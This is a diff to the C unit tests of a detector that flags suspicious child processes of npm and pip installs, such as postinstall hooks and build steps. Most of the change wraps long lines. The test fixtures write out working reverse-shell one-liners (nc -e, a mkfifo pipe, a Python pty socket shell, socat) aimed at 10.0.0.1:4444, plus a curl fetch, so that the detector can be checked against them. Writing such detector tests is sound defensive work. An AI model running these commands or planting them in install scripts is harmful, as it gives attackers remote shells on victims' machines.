@@ -158,7 +158,8 @@ static void expect(const struct proc *p, enum rule_id rule, enum severity sev, c
 	rules_eval(cfg, p, &v);
 	if (v.rule != rule || (rule != RULE_NONE && v.severity != sev) ||
 	    (reason && (!v.reason || strcmp(v.reason, reason) != 0)))
-		fail_msg("\"%s\": got rule %d %s \"%s\" (matched \"%s\"%s%s), expected rule %d %s \"%s\"",
+		fail_msg("\"%s\": got rule %d %s \"%s\" (matched \"%s\"%s%s), expected rule %d %s "
+			 "\"%s\"",
 			 p->img->cmdline, v.rule, severity_name(v.severity),
 			 v.reason ? v.reason : "", v.matched ? v.matched : "",
 			 v.excluded_by ? ", excluded by " : "", v.excluded_by ? v.excluded_by : "",
@@ -258,6 +259,9 @@ static void test_download_and_execute(void **state)
 
 static void test_reverse_shell(void **state)
 {
+	const char *fifo = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f";
+	const char *pty = "python3 -c import socket,os,pty;s=socket.socket();"
+			  "s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")";
 	struct proc *npm = npm_root(), *sh;
 
 	(void)state;
@@ -266,11 +270,9 @@ static void test_reverse_shell(void **state)
 	expect(proc(sh, &npm_sess, "/usr/bin/bash", "bash -i"), RULE_PM_CHILD, SEV_CRITICAL, NULL);
 	expect(npm_script(npm, "nc 10.0.0.1 4444 -e /bin/sh", "postinstall"), RULE_PM_CHILD,
 	       SEV_CRITICAL, "reverse shell");
-	expect(npm_script(npm, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
-			  "postinstall"), RULE_PM_CHILD, SEV_CRITICAL, "reverse shell");
-	expect(proc(npm, &npm_sess, "/usr/bin/python3.11",
-		    "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")"),
-	       RULE_PM_CHILD, SEV_CRITICAL, "reverse shell");
+	expect(npm_script(npm, fifo, "postinstall"), RULE_PM_CHILD, SEV_CRITICAL, "reverse shell");
+	expect(proc(npm, &npm_sess, "/usr/bin/python3.11", pty), RULE_PM_CHILD, SEV_CRITICAL,
+	       "reverse shell");
 	expect(proc(npm, &npm_sess, "/usr/bin/socat", "socat tcp:10.0.0.1:4444 exec:/bin/sh"),
 	       RULE_PM_CHILD, SEV_CRITICAL, "reverse shell");
 }
@@ -340,16 +342,19 @@ static void test_quiet_builds(void **state)
 	assert_int_equal(v.rule, RULE_NONE);
 	assert_string_equal(v.excluded_by, "node-gyp probes the Python interpreter it will use");
 	expect_none(proc(gyp, &npm_sess, "/usr/bin/python3.11",
-			 "/usr/bin/python3 -c import sys; sys.stdout.buffer.write(sys.executable.encode('utf-8'));"));
+			 "/usr/bin/python3 -c import sys; "
+			 "sys.stdout.buffer.write(sys.executable.encode('utf-8'));"));
 	/* the same probe with more code is not the probe */
 	expect(proc(gyp, &npm_sess, "/usr/bin/python3.11",
 		    "python3 -c import sys; print(\"%s.%s.%s\" % sys.version_info[:3]); import os"),
 	       RULE_PM_CHILD, SEV_MEDIUM, "interpreter one-liner");
 	make = proc(gyp, &npm_sess, "/usr/bin/make", "make BUILDTYPE=Release -C build");
 	expect_none(make);
-	cc = proc(make, &npm_sess, "/usr/bin/x86_64-linux-gnu-g++-12", "g++ -o Release/obj/x.o ../x.cc");
+	cc = proc(make, &npm_sess, "/usr/bin/x86_64-linux-gnu-g++-12",
+		  "g++ -o Release/obj/x.o ../x.cc");
 	expect_none(cc);
-	expect_none(proc(cc, &npm_sess, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "cc1plus -quiet x.cc"));
+	expect_none(proc(cc, &npm_sess, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus",
+			 "cc1plus -quiet x.cc"));
 	p = proc(make, &npm_sess, "/usr/bin/uname", "uname -s");
 	rules_eval(cfg, p, &v);
 	assert_int_equal(v.rule, RULE_NONE);
@@ -359,7 +364,8 @@ static void test_quiet_builds(void **state)
 	expect(proc(make, &npm_sess, "/usr/bin/curl", "curl http://x"), RULE_PM_CHILD, SEV_HIGH,
 	       NULL);
 	/* uname outside a build is recon */
-	expect(proc(npm_script(npm, "uname -a", "install"), &npm_sess, "/usr/bin/uname", "uname -a"), RULE_PM_CHILD, SEV_MEDIUM, NULL);
+	sh = npm_script(npm, "uname -a", "install");
+	expect(proc(sh, &npm_sess, "/usr/bin/uname", "uname -a"), RULE_PM_CHILD, SEV_MEDIUM, NULL);
 }
 
 static char *shim_cmdline(const char *exe, const char *before)
@@ -401,9 +407,9 @@ static void test_pip_shim(void **state)
 	expect(proc(pip, &pip_sess, "/usr/bin/python3.11", line), RULE_PM_CHILD, SEV_MEDIUM,
 	       "interpreter one-liner");
 	free(line);
-	expect(proc(pip, &pip_sess, "/usr/bin/python3.11",
-		    "/usr/bin/python3 -c import socket; socket.create_connection((\"10.0.0.1\",80))"),
-	       RULE_PM_CHILD, SEV_MEDIUM, "interpreter one-liner");
+	p = proc(pip, &pip_sess, "/usr/bin/python3.11",
+		 "/usr/bin/python3 -c import socket; socket.create_connection((\"10.0.0.1\",80))");
+	expect(p, RULE_PM_CHILD, SEV_MEDIUM, "interpreter one-liner");
 	/* setup.py's own children are still judged */
 	p = proc(pip, &pip_sess, "/usr/bin/python3.11", "/usr/bin/python3 setup.py bdist_wheel");
 	expect_none(p);
